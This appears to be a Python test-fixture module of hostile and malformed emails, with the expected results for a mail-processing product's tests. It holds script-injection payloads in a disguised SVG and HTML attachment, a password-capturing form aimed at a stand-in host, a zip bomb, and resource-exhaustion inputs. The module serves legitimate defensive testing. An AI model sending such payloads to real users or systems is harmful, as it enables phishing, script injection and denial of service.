"""Mails that break programs, by name: each as its sender would write it, and what the product must make of it."""

import base64
import io
import random
import zipfile
from collections.abc import Callable
from typing import NamedTuple

from tests.channels.mail.letters import letter, multipart, part

MIXED = 'multipart/mixed; boundary="b1"'
MEGABYTE = 1_000_000
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
PAGE = b"<!doctype html><script>alert(1)</script><form action=https://evil.test><input name=password></form>"


class BadMail(NamedTuple):
    """`text` stands in the message that it becomes, with these flags and these types of attachments."""

    make: Callable[[str], bytes]
    text: str = "Words"
    flags: frozenset[str] = frozenset()
    types: tuple[str, ...] = ()


def _file(content: bytes, name: str, kind: str) -> bytes:
    encoded = base64.encodebytes(content).replace(b"\n", b"\r\n")
    return part(
        encoded,
        Content_Type=kind,
        Content_Transfer_Encoding="base64",
        Content_Disposition=f'attachment; filename="{name}"',
    )


def _with(sender: str, *parts: bytes, text: bytes = b"Words", kind: str = "text/plain; charset=utf-8") -> bytes:
    return _from(sender, multipart("mixed", part(text, Content_Type=kind), *parts), Content_Type=MIXED)


def _from(sender: str, body: str | bytes = "Words", /, **fields: str) -> bytes:
    """A mail from `sender`, with an id of its own."""
    named = {"From": sender, "Message-ID": f"<{sender}>", **fields}
    return letter(body, **named)


def large(sender: str, megabytes: float) -> bytes:
    """A mail of about so many megabytes, nearly all of it one file that doesn't compress."""
    block = base64.encodebytes(random.Random(1).randbytes(57 * 1_000)).replace(b"\n", b"\r\n")
    encoded = block * int(megabytes * MEGABYTE / len(block))
    head = {"Content_Type": "application/octet-stream; name=film.bin", "Content_Transfer_Encoding": "base64"}
    return _with(sender, part(encoded, **head))


def _bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb", bytes(100_000_000))
    return packed.getvalue()


BAD_MAILS = {
    "3-megabytes": BadMail(lambda sender: large(sender, 3), types=("application/octet-stream",)),
    "a-hundred-thousand-parts": BadMail(
        lambda sender: _from(sender, b"--b1\r\n\r\nWords\r\n" * 100_000 + b"--b1--\r\n", Content_Type=MIXED),
        flags=frozenset({"cut"}),
    ),
    "twenty-thousand-levels": BadMail(
        lambda sender: _from(
            sender,
            b"".join(
                f'--b{n}\r\nContent-Type: multipart/mixed; boundary="b{n + 1}"\r\n\r\n'.encode()
                for n in range(1, 20_000)
            )
            + b"--b20000\r\n\r\nhidden",
            Content_Type=MIXED,
        ),
        text="",
        flags=frozenset({"cut"}),
        types=("text/plain",),
    ),
    "a-header-of-a-megabyte": BadMail(lambda sender: _from(sender, X_Long="\r\n ".join(["x" * 70] * 15_000))),
    "a-subject-of-a-megabyte": BadMail(lambda sender: _from(sender, Subject="s" * MEGABYTE)),
    "mixed-and-wrong-charsets": BadMail(
        lambda sender: _with(
            sender,
            part("还有这个".encode("gb18030"), Content_Type="text/plain; charset=gb2312"),
            part(b"and this", Content_Type="text/plain; charset=no-such"),
            text="Räksmörgås".encode("latin-1"),
        ),
        text="Räksmörgås",
    ),
    "an-svg": BadMail(lambda sender: _with(sender, _file(SVG, "logo.png", "image/png")), types=("image/svg+xml",)),
    "an-html-page": BadMail(
        lambda sender: _with(sender, _file(PAGE, "bill.pdf", "application/pdf")), types=("text/html",)
    ),
    "a-zip-bomb": BadMail(
        lambda sender: _with(sender, _file(_bomb(), "photos.zip", "application/zip")), types=("application/zip",)
    ),
    "ten-thousand-marks": BadMail(lambda sender: _from(sender, From="A" + "\u0301" * 10_000 + f" <{sender}>")),
    "nul-and-lone-surrogates": BadMail(
        lambda sender: _from(
            sender,
            b"Words\x00 \xed\xa0\x80 end",
            Subject="A =?utf-8?b?7aCA?= =?utf-8?q?=00?=",
            Content_Type="text/plain; charset=utf-8",
        )
    ),
    "html-that-never-ends": BadMail(
        lambda sender: _with(sender, text=b"<div><b>\r\n" * 50_000 + b"Words", kind="text/html")
    ),
    "quotes-without-end": BadMail(
        lambda sender: _from(sender, "Words\r\n" + (">" * 200 + " On Monday, Anna wrote:\r\n") * 8_000),
        flags=frozenset({"cut"}),
    ),
    "fifty-thousand-addresses": BadMail(
        lambda sender: _from(sender, Cc=",\r\n ".join(f"a{n}@b.test" for n in range(50_000)))
    ),
    "quotes-that-nobody-closes": BadMail(lambda sender: _from(sender, Cc='"' + '\\"' * 30_000)),
    "html-of-quotes": BadMail(
        lambda sender: _with(
            sender,
            text=b"<div>\r\n" * 250 + b"Words" + b"<blockquote type=cite></blockquote>\r\n" * 50_000,
            kind="text/html",
        )
    ),
    "40-megabytes-of-html": BadMail(
        lambda sender: _with(sender, text=b"<p>Words and words</p>\r\n" * 1_700_000, kind="text/html"),
        flags=frozenset({"cut"}),
    ),
    "no-sender": BadMail(
        lambda sender: letter("Words", ("From",), Message_ID=f"<{sender}>"),
        text="problem.mail.no_sender",
        flags=frozenset({"unsupported"}),
    ),
}
